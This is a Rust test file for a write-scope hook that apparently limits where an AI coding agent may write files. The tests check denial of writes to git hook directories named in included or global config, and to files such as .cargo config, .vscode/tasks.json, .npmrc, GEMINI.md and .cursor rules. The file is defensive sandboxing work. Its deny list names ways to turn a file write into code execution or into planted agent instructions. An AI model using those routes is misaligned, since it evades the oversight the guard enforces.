    assert_eq!(run(crash_dir.path()).status.code(), Some(2));
    // CLAUDE_PROJECT_DIR unset: `--root ""`, which denies.
    let unset = common::output_of(
        Command::new("sh")
            .arg("-c")
            .arg(&command)
            .env_remove("CLAUDE_PROJECT_DIR")
            .env(
                "PATH",
                format!("{}:/usr/bin:/bin", bin_dir.path().display()),
            ),
        &allowed_call(&fixture),
    );
    assert_denied(&unset, "--root has an empty value");
}

#[test]
fn a_home_dotfiles_repository_is_not_the_root() {
    let home_dir = tempfile::tempdir().unwrap();
    let home = fs::canonicalize(home_dir.path()).unwrap();
    fs::create_dir_all(home.join(".git")).unwrap();
    fs::create_dir_all(home.join("work")).unwrap();
    let hook = |cwd: &Path, path: &str| {
        common::output_of(
            Command::new(AIRLOCK)
                .args(["hook", "write-scope", "--allow-dir", "."])
                .env("HOME", &home),
            &call("Write", "file_path", path, cwd.to_str().unwrap()),
        )
    };
    // From home/work the root is home/work (the search stops below home), not all of home.
    assert_eq!(hook(&home.join("work"), "notes.md").status.code(), Some(0));
    assert_denied(&hook(&home.join("work"), "../.bashrc"), "neither");
    // From home itself there is no acceptable root.
    assert_denied(&hook(&home, ".bashrc"), "holds the home directory");
}

/// The hook with `--root ROOT` and these flags, git's global and system configuration
/// pointed at `gitconfig` (so the machine's own never decides a case).
fn scoped(root: &Path, gitconfig: &Path, flags: &[&str], target: &str) -> Output {
    common::output_of(
        Command::new(AIRLOCK)
            .args(["hook", "write-scope", "--root"])
            .arg(root)
            .args(flags)
            .env("GIT_CONFIG_GLOBAL", gitconfig)
            .env("GIT_CONFIG_SYSTEM", gitconfig),
        &call(
            "Write",
            "file_path",
            root.join(target).to_str().unwrap(),
            root.to_str().unwrap(),
        ),
    )
}

#[test]
fn places_git_configuration_names_are_protected() {
    let dir = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(dir.path()).unwrap().join("repo");
    fs::create_dir_all(root.join(".git")).unwrap();
    fs::create_dir_all(root.join("tools/hooks")).unwrap();
    let global = root.parent().unwrap().join("global.gitconfig");
    fs::write(&global, "").unwrap();
    fs::write(
        root.join(".git/config"),
        "[core]\n\tbare = false\n[include]\n\tpath = ../tools/git.inc\n",
    )
    .unwrap();
    fs::write(
        root.join("tools/git.inc"),
        "[Core]\n\tHooksPath = tools/hooks\n",
    )
    .unwrap();
    let grant = ["--allow-dir", "tools"];
    // The hooks directory an included file names, in any case, and the included file itself.
    let out = scoped(&root, &global, &grant, "tools/hooks/pre-commit");
    assert_denied(&out, "which git runs code from (core.hookspath in");
    assert_denied(
        &scoped(&root, &global, &grant, "tools/HOOKS/post-checkout"),
        "git runs code from",
    );
    assert_denied(
        &scoped(&root, &global, &grant, "tools/git.inc"),
        "include.path",
    );
    assert_eq!(
        scoped(&root, &global, &grant, "tools/other.txt")
            .status
            .code(),
        Some(0)
    );
    // Named on purpose, inside the place, a grant works; so does an explicit file.
    let inner = ["--allow-dir", "tools/hooks/lib"];
    fs::create_dir_all(root.join("tools/hooks/lib")).unwrap();
    assert_eq!(
        scoped(&root, &global, &inner, "tools/hooks/lib/x.sh")
            .status
            .code(),
        Some(0)
    );
    let file = ["--allow", "tools/hooks/pre-commit"];
    assert_eq!(
        scoped(&root, &global, &file, "tools/hooks/pre-commit")
            .status
            .code(),
        Some(0)
    );
    // A relative hooksPath set globally points into every repository.
    fs::write(root.join("tools/git.inc"), "").unwrap();
    fs::write(&global, "[core]\n\thooksPath = tools/hooks\n").unwrap();
    assert_denied(
        &scoped(&root, &global, &grant, "tools/hooks/pre-push"),
        "global.gitconfig",
    );
    // A configuration the guard cannot read fails closed.
    fs::write(root.join(".git/config"), "[core\n").unwrap();
    assert_denied(
        &scoped(&root, &global, &grant, "tools/other.txt"),
        "git's configuration cannot be read",
    );
}

#[test]
fn the_rest_of_each_family_is_protected() {
    let dir = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(dir.path()).unwrap();
    fs::create_dir_all(root.join(".git")).unwrap();
    let none = root.join("empty.gitconfig");
    fs::write(&none, "").unwrap();
    let grant = ["--allow-dir", "."];
    for (target, entry) in [
        (".cargo/config.toml", ".cargo"),
        (".cargo/config", ".cargo"),
        ("Mise.toml", "mise.toml"),
        (".mise.toml", ".mise.toml"),
        (".mise/tasks/build", ".mise"),
        (".yarnrc.yml", ".yarnrc.yml"),
        ("GEMINI.md", "GEMINI.md"),
        (".cursor/rules/style.mdc", ".cursor"),
        (".vscode/tasks.json", ".vscode"),
        (
            ".github/copilot-instructions.md",
            ".github/copilot-instructions.md",
        ),
        ("sub/.npmrc", ".npmrc"),
        (".gitattributes", ".gitattributes"),
        ("rust-toolchain.toml", "rust-toolchain.toml"),
    ] {
        let out = scoped(&root, &none, &grant, target);
        assert_denied(&out, &format!("inside {entry:?}"));
    }
    assert_eq!(
        scoped(&root, &none, &grant, "src/main.rs").status.code(),
        Some(0)
    );
    // Lifted one at a time, as every relaxable entry is.
    let lifted = ["--allow-dir", ".", "--unprotect", ".cargo"];
    assert_eq!(
        scoped(&root, &none, &lifted, ".cargo/config.toml")
            .status
            .code(),
        Some(0)
    );
}
